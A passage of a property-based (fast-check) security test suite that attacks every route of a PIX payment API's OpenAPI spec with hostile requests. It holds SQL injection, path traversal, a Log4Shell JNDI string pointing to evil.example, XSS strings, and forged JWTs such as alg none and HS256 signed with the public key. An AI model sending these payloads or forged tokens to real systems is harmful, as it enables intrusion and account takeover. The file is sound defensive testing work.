/**
 * Hostile input: property-based requests (fast-check) against every route of openapi.json.
 *
 * For each operation the generator starts from the operation's own schemas (bodies, path,
 * query and header parameters, so a new route is covered as soon as it is documented) and mixes
 * in, at every level, values of the wrong type, huge strings, unicode (emoji, RTL, combining
 * marks, lone surrogates, NUL, control characters), hostile amounts, injection strings, the real
 * identifiers of two seeded accounts, raw malformed JSON, wrong content types, random query
 * strings and a spread of valid, missing, forged, expired and mismatched credentials.
 *
 * Properties, for every generated request:
 *  1. the status is below 500;
 *  2. an error body is exactly {statusCode, message, error, code}, statusCode equal to the HTTP
 *     status and code one of the documented codes;
 *  3. nothing answered to account A carries account B's data (names, documents, end-to-end ids,
 *     txids, refund ids, client id, webhook URL and secret...), and A naming B's identifiers in
 *     the path never gets a 2xx;
 *  4. admin and sandbox routes answer 401 without the admin token, account routes 400/401
 *     without a valid token and certificate; a token is issued only for the client id, secret
 *     and certificate of one account;
 *  5. no request takes 5 s (a backtracking regex on a long URL did), and the logs (at info, as
 *     in production) hold no credential and no warning (the database refusing a value).
 * Every operation of openapi.json must have been reached by some request (its route answered).
 *
 * Half the requests follow the schemas with valid credentials (so they get past validation,
 * into the handlers and the database), half are hostile. The seed is fixed: FC_SEED overrides it
 * (a failure names it, with the operation's own seed), FC_RUNS sets the requests per operation,
 * HOSTILE_VERBOSE=1 prints why well-formed requests were refused.
 */
import assert from 'node:assert/strict';
import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import { issueCertificate } from '../src/lib/certificate-authority.ts';
import { ManualClock } from '../src/lib/clock.ts';
import { createAccount, createClient, linkCertificate, randomCnpj, randomCpf, requestToken, type TestClient } from './factories.ts';
import { adminHeaders, startTestApp, TEST_ADMIN_TOKEN, type TestApp } from './harness.ts';
import { assertErrorShape } from './assertions.ts';
import { PROBLEM_TYPE_BASE, PROBLEM_TYPES } from '../src/dialects/bcb/problems.ts';
import { ENGLISH } from '../src/dialects/bcb/portugues.ts';

const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_261_122;
const RUNS = process.env.FC_RUNS ? Number(process.env.FC_RUNS) : 40;

// ---------------------------------------------------------------------------------------------
// The operations, from openapi.json
// ---------------------------------------------------------------------------------------------

interface Schema {
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  anyOf?: Schema[];
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  maxItems?: number;
}
interface Param {
  name: string;
  in: 'path' | 'query' | 'header';
  required?: boolean;
  schema: Schema;
}
type Security = 'bearer' | 'admin' | 'none';
interface Operation {
  method: string;
  path: string;
  key: string;
  params: Param[];
  body: Schema | undefined;
  security: Security;
}

const openapi = JSON.parse(readFileSync(new URL('../openapi.json', import.meta.url), 'utf8')) as {
  paths: Record<string, Record<string, { parameters?: Param[]; requestBody?: { content: Record<string, { schema: Schema }> }; security?: Record<string, unknown>[] }>>;
};

const OPERATIONS: Operation[] = Object.entries(openapi.paths).flatMap(([path, methods]) =>
  Object.entries(methods).map(([method, op]) => {
    const scheme = Object.keys(op.security?.[0] ?? {})[0];
    return {
      method: method.toUpperCase(),
      path,
      key: `${method.toUpperCase()} ${path}`,
      params: op.parameters ?? [],
      body: op.requestBody?.content['application/json']?.schema,
      // BCB's operations (`/v2`) name their OAuth 2.0 scope: account routes like the root's.
      security: scheme === 'bearerAuth' || scheme === 'oauth2' ? 'bearer' : scheme === 'adminToken' ? 'admin' : 'none',
    } satisfies Operation;
  }),
);

// ---------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------

const INJECTIONS = [
  "' OR 1=1 --", "'; drop table accounts; --", '"; drop table transactions; --',
  "1' union select client_secret_hash from accounts --", "1; select pg_sleep(10)", '{"$gt":""}', '{"$ne":null}',
  '../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%00', '%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}', '<script>alert(1)</script>', '\\', '\\u0000', '%s%s%s%n', 'null', 'undefined', '__proto__', 'constructor', 'NaN',
  '*', '%', '?', '#', '/', 'E00000000000000000000000000000000',
];
const UNICODE = [
  '😀', '👨‍👩‍👧‍👦', '🇧🇷', 'مرحبا بالعالم', '\u202Eevil\u202C', 'שלום', 'e\u0301\u0301\u0301\u0301',
  'Z\u0351\u0334\u0336\u0337\u0338', '\u200B\u200C\u200D\uFEFF', '\u0000', 'a\u0000b', '\u0001\u0002\u0007\u001B[31m', '\r\n',
  '\t', '\u007F', '\uD800', '\uDFFF', 'a\uD83D', '\uDE00b', '\uFFFD', '\uFFFF', '１２３４５６７８９０９', 'Ａｎａ', 'İı', 'ß',
  'ｅｘａｍｐｌｅ＠ｅｘａｍｐｌｅ.com',
];
const HUGE_SIZES = [1_000, 65_000, 65_536, 66_000, 70_000];
const huge = fc
  .tuple(fc.constantFrom(...HUGE_SIZES), fc.constantFrom('a', 'é', '😀', "'", '\u0000', '9'))
  .map(([size, unit]) => unit.repeat(Math.ceil(size / Buffer.byteLength(unit))));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '   ', '0', '-1', 'true', '[]', '{}') },
  { weight: 1, arbitrary: huge },
);

/** Amounts: negative, zero, tiny, enormous, beyond double precision, not finite (JSON turns them into null). */
const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    1e308, -1e308, -1, 0, -0, 0.001, 0.005, 1.005, 0.1 + 0.2, Number('99999999999999999999'), 2 ** 53, 2 ** 53 + 2, 2 ** 63,
    -(2 ** 63), 2 ** 31, 1e-7, 5e-324, 123456789.123, Number.NaN, Number.POSITIVE_INFINITY,
  ),
  fc.double(),
  fc.integer(),
  fc.double({ min: -1e6, max: 1e6 }),
);
const AMOUNT_STRINGS = [
  '1e3', '-1', '0', '0.00', '-0.00', '-10.00', 'NaN', 'Infinity', '-Infinity', '1e308', '1e-400', '99999999999999999999',
  '99999999999999999999.99', '9999999999999999.99', '999999999999999.99', '0x10', '1_000', ' 10.00', '10.00 ', '１０.００', '10,00',
  '10.001', '.5', '5.', '+5.00', '00000000000000010.00', '0.01', '0.001',
];
const amountString = fc.oneof(fc.constantFrom(...AMOUNT_STRINGS), fc.stringMatching(/^-?[0-9]{1,20}(\.[0-9]{1,3})?$/));

const hostileKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', '$gt', '$where', '', ' ', '\u0000', '\uD800', 'a.b', 'a[0]', 'PIXKEY', 'amount'),
  fc.string({ maxLength: 12 }),
);
const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 2, arbitrary: amountString },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { $gt: '' }, { $ne: null }) },
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileLeaf },
  { weight: 1, arbitrary: fc.array(hostileLeaf, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileKey, hostileLeaf, { maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

const dateTime = fc.oneof(
  fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constantFrom(
    '0001-01-01T00:00:00Z', '0000-01-01T00:00:00Z', '9999-12-31T23:59:59.999Z', '2024-02-30T00:00:00Z', '2024-01-01T24:00:00Z',
    '2016-12-31T23:59:60Z', '2026-11-22T12:00:00+14:00', '2026-11-22T12:00:00-23:59', '2026-11-22T12:00:00.123456789Z',
    '2026-11-22', '+275760-09-13T00:00:00.000Z', '2026-11-22T12:00:00',
  ),
);

/** Percent-encoding that also takes lone surrogates (as their WTF-8 bytes: invalid UTF-8). */
function enc(text: string): string {
  let out = '';
  for (const ch of text) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      out += [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
    } else {
      out += encodeURIComponent(ch);
    }
  }
  return out;
}
const safeDecode = (text: string) => {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
};

/** Path segments sent as they are (already "encoded"): traversal, encoded slashes, bad escapes. */
const RAW_SEGMENTS = [
  '..', '.', '%2e%2e', '%2F', 'a%2Fb', '..%2F..%2Fetc%2Fpasswd', '%00', '%', '%ZZ', '%C0%AF', '%ED%A0%80', '%F0%9F%98%80',
  '%252F', '+', '%20', ';', 'a;b=c', '%3B', '*', '{id}', ':id', '%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D', '1%20OR%201%3D1', '-1',
  '0', '1e3', '99999999999999999999', '9223372036854775808', '000000000000000001', '1.5', '0x1f',
];

/** Header values as HTTP can carry them (latin1). */
const headerText = fc.oneof(
  fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 60 }),
  fc.string({ unit: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)), maxLength: 10 }),
  fc.constantFrom(...INJECTIONS.filter((s) => /^[\x20-\x7e]*$/.test(s))),
  fc.constantFrom('x'.repeat(9_000), '%41'.repeat(5_000)),
);

const RAW_BODIES = [
  '', ' ', '{', '}', '{"a":', '{a:1}', "{'a':1}", '[1,2,', 'null', 'true', '0', '-0', '1e400', '"x"', 'NaN', 'undefined',
  '\uFEFF{}', '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"isAdmin":true}}}', '{"a":1,"a":2}',
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`, `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`, '{"x":"\\ud800"}',
  '{"x":"\\u0000"}', '\u0000', '{"x":1}garbage', '{"x":1}\n{"y":2}', '{"x":"\\q"}', `{"x":"${'a'.repeat(70_000)}"}`,
  `[${'1,'.repeat(40_000)}1]`,
];
/** Bodies as bytes (latin1 strings): invalid and overlong UTF-8, encoded surrogates, UTF-16 with a BOM, a UTF-8 BOM. */
const RAW_BYTES = [
  '{"a":"\xff\xfe"}', '{"a":"\xc0\xa2"}', '{"a":"\xed\xa0\x80"}', '\xff\xfe{\x00"\x00a\x00"\x00:\x001\x00}\x00', '\xef\xbb\xbf{}',
  '{"pixKey":"\xf0\x9f\x98","payment":{"currency":"BRL","amount":1}}',
];
/** Number literals JSON can carry but a double cannot. */
const NUMBER_LITERALS = ['99999999999999999999', '1e400', '-1e400', '1e-400', '123456789012345678901234567890', '0.1e1', '-0', '1E2', '10.000000000000000001', '0.0000001'];

const CONTENT_TYPES = [
  'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1', 'APPLICATION/JSON', 'application/json;', 'application/jsonp',
  'application/vnd.api+json', 'application/*', '*/*', 'json', ';', 'application/json, text/plain', 'application/xml',
];

// ---------------------------------------------------------------------------------------------
// The seeded world: accounts A (the caller) and B (the victim), and their identifiers
// ---------------------------------------------------------------------------------------------

interface Party {
  client: TestClient;
  keys: string[];
  e2es: string[];
  txids: string[];
  refundIds: string[];
  externalIds: string[];
  transactionIds: string[];
  webhookIds: string[];
  medIds: string[];
  idempotencyKeys: string[];
  /** The payload locations of the party's charges: ids (`/v2/loc/{id}`) and tokens (`/qr/v2/{token}`). */
  locIds: string[];
  locTokens: string[];
}

interface World {
  a: Party;
  b: Party;
  /** Strings that only B's data contains. */
  bSecrets: string[];
  externalKeys: string[];
  cpfs: string[];
  cnpjs: string[];
  fingerprints: string[];
  pems: string[];
  /** Authorization/certificate header sets, valid for A or not. */
  accountAuth: Auth[];
  certHeaders: { kind: string; header: string | undefined; owner: 'a' | 'b' | null }[];
  accountIds: string[];
}

const B_NAME = 'Bruna Vazamento Quixotesca';
const B_MARK = 'brunasegredo';
const B_RECEIVED = '987654.32';

async function seed(t: TestApp): Promise<World> {
  const adminPost = async <T>(url: string, payload: object | undefined, status = 201): Promise<T> => {
    const res = await t.app.inject({ method: 'POST', url, headers: adminHeaders, ...(payload ? { payload } : {}) });
    assert.equal(res.statusCode, status, `${url}: ${res.body}`);
    return res.json<T>();
  };
  const as = async <T>(client: TestClient, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object, headers: Record<string, string> = {}) => {
    const res = await t.app.inject({ method, url, headers: { ...client.headers, ...headers }, ...(payload ? { payload } : {}) });
    assert.ok(res.statusCode < 300, `${method} ${url}: ${res.statusCode} ${res.body}`);
    return res.json<T>();
  };

  const externalKey = 'recebedor-externo@example.com';
  await adminPost('/sandbox/dict/keys', { key: externalKey, name: 'Recebedor Externo', document: randomCnpj(), ispb: '60746948' });
  const refusingKey = 'recebedor-recusa@example.com';
  await adminPost('/sandbox/dict/keys', { key: refusingKey, name: 'Recebedor Recusa', document: randomCpf(), ispb: '00360305', behavior: 'reject' });

  async function party(name: string, mark: string, webhookPath: string, received: string): Promise<Party> {
    const document = randomCpf();
    const client = await createClient(t, { name, document });
    const keys: string[] = [];
    keys.push((await adminPost<{ key: string }>(`/admin/accounts/${client.accountId}/pix-keys`, { type: 'evp' })).key);
    keys.push((await adminPost<{ key: string }>(`/admin/accounts/${client.accountId}/pix-keys`, { type: 'email', key: `${mark}@example.com` })).key);
    keys.push((await adminPost<{ key: string }>(`/admin/accounts/${client.accountId}/pix-keys`, { type: 'cpf' })).key);
    const incoming = await adminPost<{ endToEndId: string }>('/sandbox/pix/incoming', {
      pixKey: keys[0],
      amount: received,
      payer: { name: `Pagador ${mark}`, document: randomCpf() },
      description: `${mark}-recebimento`,
    });
    const second = await adminPost<{ endToEndId: string }>('/sandbox/pix/incoming', {
      pixKey: keys[1],
      amount: '50.00',
      payer: { name: `Outro Pagador ${mark}`, document: randomCpf() },
    });
    const idempotencyKey = randomUUID();
    const transfer = await as<{ endToEndId: string }>(
      client,
      'POST',
      '/dict/pix',
      { pixKey: externalKey, payment: { currency: 'BRL', amount: 12.5 }, description: `${mark}-transferencia`, externalId: `${mark}Externo1` },
      { 'x-idempotency-key': idempotencyKey },
    );
    const txid = `${mark}TxidPaga${randomUUID().replaceAll('-', '')}`.slice(0, 35);
    const openTxid = `${mark}TxidAtiva${randomUUID().replaceAll('-', '')}`.slice(0, 35);
    for (const id of [txid, openTxid]) {
      await as(client, 'PUT', `/cob/${id}`, {
        calendario: { expiracao: 36_000 },
        devedor: { nome: `Devedor ${mark}`, cpf: randomCpf() },
        valor: { original: '25.00' },
        solicitacaoPagador: `${mark}-cobranca`,
      });
    }
    const paid = await adminPost<{ endToEndId: string }>(`/sandbox/cob/${txid}/pay`, {});
    const refundId = `${mark}Devolucao1`;
    const refund = await as<{ rtrId: string }>(client, 'PUT', `/pix/${incoming.endToEndId}/devolucao/${refundId}`, {
      valor: '5.00',
      descricao: `${mark}-devolucao`,
    });
    await adminPost('/sandbox/settle', undefined, 200);
    const med = await adminPost<{ medId: number }>('/sandbox/med', { endToEndId: second.endToEndId, reason: 'FRAUD', details: `${mark}-med` });
    const webhook = await as<{ id: number }>(client, 'POST', '/api/webhooks', {
      url: `https://127.0.0.1:9/${webhookPath}`,
      eventType: 'cash_in',
      headers: [{ key: `x-${mark}`, value: `${mark}-header-value` }],
    });
    const rows = (await as<{ data: { transactionId: string }[] }>(client, 'GET', '/api/transactions?size=100')).data;
    // The same charges seen through BCB's dialect, with their payload locations.
    const locs = await Promise.all([txid, openTxid].map((id) => as<{ loc: { id: number; location: string } }>(client, 'GET', `/v2/cob/${id}`)));
    assert.ok(rows.length >= 4, JSON.stringify(rows));
    return {
      client,
      keys,
      e2es: [incoming.endToEndId, second.endToEndId, transfer.endToEndId, paid.endToEndId, refund.rtrId],
      txids: [txid, openTxid],
      refundIds: [refundId],
      externalIds: [`${mark}Externo1`, idempotencyKey],
      transactionIds: rows.map((r) => r.transactionId),
      webhookIds: [String(webhook.id)],
      medIds: [String(med.medId)],
      idempotencyKeys: [idempotencyKey],
      locIds: locs.map((c) => String(c.loc.id)),
      locTokens: locs.map((c) => c.loc.location.split('/').at(-1)!),
    };
  }

  const a = await party('Alice Hostil Teste', 'alicehostil', 'alice-hook', '1000.00');
  // B's amounts are distinctive too, so that B's balance and transactions would stand out.
  const b = await party(B_NAME, B_MARK, `${B_MARK}-hook`, B_RECEIVED);
  const bBalance = (await t.app.inject({ method: 'GET', url: '/balance', headers: b.client.headers })).json<Record<string, unknown>>();

  const bSecret = (await t.app.inject({ method: 'GET', url: '/api/webhooks/signing-secret', headers: b.client.headers })).json<Record<string, unknown>>();
  const bSecrets = [
    B_NAME,
    B_MARK,
    ...['recebimento', 'transferencia', 'cobranca', 'devolucao', 'med', 'header-value', 'hook'].map((what) => `${B_MARK}-${what}`),
    `Pagador ${B_MARK}`, `Outro Pagador ${B_MARK}`, `Devedor ${B_MARK}`,
    B_RECEIVED,
    ...[bBalance.grossBalance, bBalance.netBalance].map(String).filter((n) => n.length >= 7),
    b.client.document,
    b.client.clientId,
    b.client.clientSecret,
    b.client.token,
    b.client.cert.fingerprint,
    ...b.keys,
    ...b.e2es,
    ...b.txids,
    ...b.refundIds,
    ...b.externalIds,
    ...Object.values(bSecret).filter((v): v is string => typeof v === 'string' && v.length >= 16),
  ];

  // Credentials: A's own, and everything that must not pass for A.
  const unlinked = await issueCertificate({ commonName: 'nobody' });
  const oldCert = await linkCertificate(t, a.client.accountId, { notBefore: new Date(Date.now() - 10 * 86_400_000) });
  const clock = t.clock;
  const realNow = clock.now();
  clock.set(new Date(realNow.getTime() - 2 * 3_600_000));
  const expired = await requestToken(t, a.client, oldCert);
  clock.set(realNow);

  const [headerPart, payloadPart, signaturePart] = a.client.token.split('.') as [string, string, string];
  const aHeader = JSON.parse(Buffer.from(headerPart, 'base64url').toString()) as { kid: string };
  const aPayload = JSON.parse(Buffer.from(payloadPart, 'base64url').toString()) as Record<string, unknown>;
  const bThumbprint = (JSON.parse(Buffer.from(b.client.token.split('.')[1]!, 'base64url').toString()) as { cnf: Record<string, string> }).cnf;
  const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const now = Math.floor(realNow.getTime() / 1000);
  const forgedClaims = { iss: 'pix-api', sub: String(b.client.accountId), cnf: bThumbprint, iat: now, exp: now + 1800, jti: randomUUID() };
  // jose: an EdDSA token for B signed with a key of our own, under the service's kid.
  const { privateKey } = await generateKeyPair('EdDSA', { extractable: true });
  const forged = await new SignJWT(forgedClaims).setProtectedHeader({ alg: 'EdDSA', kid: aHeader.kid, typ: 'at+jwt' }).sign(privateKey);
  const ownJwk = await exportJWK((await generateKeyPair('EdDSA', { extractable: true })).publicKey);
  const embedded = await new SignJWT(forgedClaims)
    .setProtectedHeader({ alg: 'EdDSA', kid: aHeader.kid, typ: 'at+jwt', jwk: ownJwk })
    .sign(privateKey);
  // Hand-made tokens with odd headers, signed by a key of our own.
  const raw = generateKeyPairSync('ed25519');
  const signed = (header: unknown, payload: unknown) => {
    const input = `${b64(header)}.${b64(payload)}`;
    return `${input}.${sign(null, Buffer.from(input), raw.privateKey).toString('base64url')}`;
  };
  const oddKids: unknown[] = [{ $gt: '' }, 123, ['a'], "' OR 1=1 --", '\u0000', 'k'.repeat(129), 'k'.repeat(128), '', null, true];
  const publicRow = await t.db.selectFrom('signing_keys').select('public_jwk').executeTakeFirstOrThrow();
  const publicJwk = (typeof publicRow.public_jwk === 'string' ? JSON.parse(publicRow.public_jwk) : publicRow.public_jwk) as { x: string };
  const hs256 = new SignJWT(forgedClaims).setProtectedHeader({ alg: 'HS256', kid: aHeader.kid, typ: 'at+jwt' }).sign(new TextEncoder().encode(publicJwk.x));
  const middle = Math.floor(signaturePart.length / 2);
  const flipped = signaturePart.slice(0, middle) + (signaturePart[middle] === 'A' ? 'B' : 'A') + signaturePart.slice(middle + 1);

  const aCert = a.client.cert.header;
  const pemOf = (text: string) => encodeURIComponent(text);
  const malformedCerts = [
    'garbage', '%ZZ', '%E0%A4%A',
    pemOf('-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n'),
    pemOf(`-----BEGIN CERTIFICATE-----\n${Buffer.from('x'.repeat(300)).toString('base64')}\n-----END CERTIFICATE-----\n`),
    pemOf(unlinked.keyPem),
    a.client.cert.certPem.replaceAll('\n', ' '),
    '%41'.repeat(20_000),
    pemOf(a.client.cert.certPem.slice(0, 200)),
    pemOf("' OR 1=1 --"),
  ];
  const certHeaders: World['certHeaders'] = [
    { kind: 'A certificate', header: aCert, owner: 'a' },
    { kind: 'B certificate', header: b.client.cert.header, owner: 'b' },
    { kind: 'unlinked certificate', header: pemOf(unlinked.certPem), owner: null },
    { kind: 'B then A certificates', header: pemOf(b.client.cert.certPem + a.client.cert.certPem), owner: null },
    { kind: 'no certificate', header: undefined, owner: null },
    ...malformedCerts.map((header) => ({ kind: 'malformed certificate', header, owner: null })),
  ];
  const bearer = (token: string) => `Bearer ${token}`;
  const accountAuth: World['accountAuth'] = [
    { kind: 'A token and certificate', valid: true, headers: a.client.headers },
    { kind: 'A token without certificate', valid: true, headers: { authorization: bearer(a.client.token) } },
    { kind: 'A token, lower-case scheme', valid: true, headers: { authorization: `bearer ${a.client.token}`, 'x-ssl-client-cert': aCert } },
    { kind: 'no token', valid: false, headers: {} },
    { kind: 'no token, A certificate', valid: false, headers: { 'x-ssl-client-cert': aCert } },
    { kind: 'empty bearer', valid: false, headers: { authorization: 'Bearer ' } },
    { kind: 'scheme only', valid: false, headers: { authorization: 'Bearer' } },
    { kind: 'basic', valid: false, headers: { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` } },
    { kind: 'garbage token', valid: false, headers: { authorization: 'Bearer abc.def.ghi' } },
    { kind: 'huge token', valid: false, headers: { authorization: bearer('a'.repeat(5_000)) } },
    { kind: 'token of 4096', valid: false, headers: { authorization: bearer(`${'a'.repeat(4_000)}.${'b'.repeat(95)}`) } },
    { kind: 'unicode token', valid: false, headers: { authorization: 'Bearer \u00e9\u00e8.\u00ff.\u00a0' } },
    { kind: 'admin token', valid: false, headers: { authorization: bearer(TEST_ADMIN_TOKEN) } },
    { kind: 'forged EdDSA (jose, random key) for B', valid: false, headers: { authorization: bearer(forged), 'x-ssl-client-cert': b.client.cert.header } },
    { kind: 'forged EdDSA with embedded jwk', valid: false, headers: { authorization: bearer(embedded), 'x-ssl-client-cert': b.client.cert.header } },
    { kind: 'forged HS256 with the public key', valid: false, headers: { authorization: bearer(await hs256) } },
    { kind: 'alg none', valid: false, headers: { authorization: bearer(`${b64({ alg: 'none', typ: 'at+jwt' })}.${b64(forgedClaims)}.`) } },
    { kind: 'A signature on B claims', valid: false, headers: { authorization: bearer(`${headerPart}.${b64({ ...aPayload, sub: String(b.client.accountId) })}.${signaturePart}`) } },
    { kind: 'A token, signature changed', valid: false, headers: { authorization: bearer(`${headerPart}.${payloadPart}.${flipped}`) } },
    { kind: 'A token, truncated', valid: false, headers: { authorization: bearer(a.client.token.slice(0, -10)) } },
    { kind: 'expired A token', valid: false, headers: { authorization: bearer(expired), 'x-ssl-client-cert': oldCert.header } },
    { kind: 'A token with B certificate', valid: false, headers: { authorization: bearer(a.client.token), 'x-ssl-client-cert': b.client.cert.header } },
    { kind: 'B token with A certificate', valid: false, headers: { authorization: bearer(b.client.token), 'x-ssl-client-cert': aCert } },
    { kind: 'A token with unlinked certificate', valid: false, headers: { authorization: bearer(a.client.token), 'x-ssl-client-cert': pemOf(unlinked.certPem) } },
    ...oddKids.map((kid) => ({
      kind: `odd kid ${JSON.stringify(kid)?.slice(0, 20)}`,
      valid: false,
      headers: { authorization: bearer(signed({ alg: 'EdDSA', kid, typ: 'at+jwt' }, forgedClaims)) },
    })),
    ...malformedCerts.map((header) => ({ kind: 'A token, malformed certificate', valid: false, headers: { authorization: bearer(a.client.token), 'x-ssl-client-cert': header } })),
  ];

  const other = await createAccount(t, { name: 'Conta Terceira' });
  return {
    a,
    b,
    bSecrets,
    externalKeys: [externalKey, refusingKey],
    cpfs: [randomCpf(), randomCpf(), '52998224725', '00000000000', '11111111111'],
    cnpjs: [randomCnpj(), randomCnpj(true), '11222333000181', '00000000000000'],
    fingerprints: [a.client.cert.fingerprint, b.client.cert.fingerprint, oldCert.fingerprint],
    pems: [unlinked.certPem, a.client.cert.certPem, (await issueCertificate({ commonName: 'new' })).certPem, '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----'],
    accountAuth,
    certHeaders,
    accountIds: [String(a.client.accountId), String(b.client.accountId), String(other.accountId), '999999', '999999999999999999'],
  };
}

// ---------------------------------------------------------------------------------------------
// Requests generated from an operation's schemas
// ---------------------------------------------------------------------------------------------

/** Values for a field, by name: the real identifiers the route may be asked about. */
type Pools = (name: string, op: Operation) => string[];

function poolsFor(world: World, scope: 'account' | 'admin', now: Date): Pools {
  const { a, b } = world;
  const both = (pick: (p: Party) => string[]) => [...pick(a), ...pick(b)];
  // A is never handed B's keys or documents: paying B would legitimately show B's name to A.
  const external = world.externalKeys;
  const keys = scope === 'account' ? [...external, ...external, ...a.keys] : [...external, ...a.keys, ...b.keys];
  const cpfs = scope === 'account' ? [a.client.document, ...world.cpfs] : [a.client.document, b.client.document, ...world.cpfs];
  const transactionRefs = both((p) => [...p.transactionIds, ...p.e2es, ...p.externalIds, ...p.txids]);
  const daysAgo = (days: number) => new Date(now.getTime() - days * 86_400_000);
  const timestamps = [0, 1, 2, 30, 31, 32, 400, -1].map((d) => daysAgo(d).toISOString());
  const days = [0, 1, 30, 31, 32].map((d) => daysAgo(d).toISOString().slice(0, 10));
  return (name, op) => {
    switch (name) {
      case 'pixKey':
      case 'chave':
      case 'key':
        // A webhook per key of B's key must be refused like any other of B's resources.
        if (op.path.startsWith('/v2/webhook/')) return [...keys, ...b.keys];
        return op.path.includes('/webhooks') ? [] : keys;
      case 'pixUrlAccessToken':
      case 'token':
        return both((p) => p.locTokens);
      case 'e2eid':
      case 'endToEndId':
        // A's first received PIX (the refundable one) comes up more often.
        return [a.e2es[0]!, a.e2es[0]!, a.e2es[0]!, ...both((p) => p.e2es)];
      case 'valor':
      case 'original':
      case 'amount':
        return ['0.01', '1.00', '5.00', '12.34', '25.00'];
      case 'txid':
        return both((p) => p.txids);
      case 'transactionId':
        return both((p) => p.transactionIds);
      case 'identifier':
      case 'transactionIdentifier':
        return transactionRefs;
      case 'externalId':
        return both((p) => p.externalIds);
      case 'id':
        if (op.path.includes('/devolucao/')) return both((p) => p.refundIds);
        if (op.path.startsWith('/v2/loc/')) return both((p) => p.locIds);
        if (op.path.includes('/webhooks/')) return both((p) => p.webhookIds);
        return transactionRefs;
      case 'medId':
        return both((p) => p.medIds);
      case 'accountId':
        return world.accountIds;
      case 'fingerprint':
        return world.fingerprints;
      case 'pem':
        return world.pems;
      case 'cpf':
        return cpfs;
      case 'cnpj':
        return world.cnpjs;
      case 'document':
      case 'creditorDocument':
        return [...cpfs, ...world.cnpjs, '11.222.333/0001-81', '529.982.247-25'];
      case 'inicio':
      case 'fim':
      case 'receivedAt':
        return timestamps;
      case 'startDate':
      case 'endDate':
        return [...days, ...timestamps];
      case 'url':
        return ['https://127.0.0.1:9/hook', 'https://localhost:9/hook', 'http://127.0.0.1:9/', 'https://user:pw@127.0.0.1:9/', 'file:///etc/passwd', 'https://[::1]:9/', 'javascript:alert(1)'];
      case 'x-idempotency-key':
        return [...a.idempotencyKeys, '00000000-0000-0000-0000-000000000000', 'b4a5d1c2-0000-4000-8000-000000000001'];
      case 'ispb':
        return ['60746948', '99999999', '00000000'];
      default:
        return [];
    }
  };
}

/** How a request is generated: `hostile` 0 follows the schemas, 1 mixes in anything at any depth. */
interface Gen {
  readonly op: Operation;
  readonly pools: Pools;
  readonly hostile: 0 | 1;
}

function valid(schema: Schema, name: string, gen: Gen): fc.Arbitrary<unknown> {
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => valid(s, name, gen)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.const !== undefined) return fc.constant(schema.const);
  switch (schema.type) {
    case 'string': {
      const options: fc.Arbitrary<string>[] = [];
      const pool = gen.pools(name, gen.op);
      if (pool.length > 0) options.push(fc.constantFrom(...pool), fc.constantFrom(...pool));
      // Dates that parse are rare among strings matching the pattern: the pool's, unless hostile.
      const datePool = pool.length > 0 && /date|inicio|fim|receivedAt/i.test(name) && !gen.hostile;
      if (datePool) return fc.constantFrom(...pool);
      if (schema.pattern) options.push(fc.stringMatching(new RegExp(schema.pattern)));
      else if (schema.format === 'date-time') options.push(dateTime);
      else if (/amount|valor|original/i.test(name) && gen.hostile) options.push(amountString);
      else if (pool.length === 0 || gen.hostile) {
        const min = schema.minLength ?? 0;
        const max = schema.maxLength ?? 40;
        options.push(
          fc.string({ minLength: min, maxLength: Math.min(max, 40) }),
          // Unicode where the schema allows any text: emoji, RTL, combining marks...
          fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 20) }),
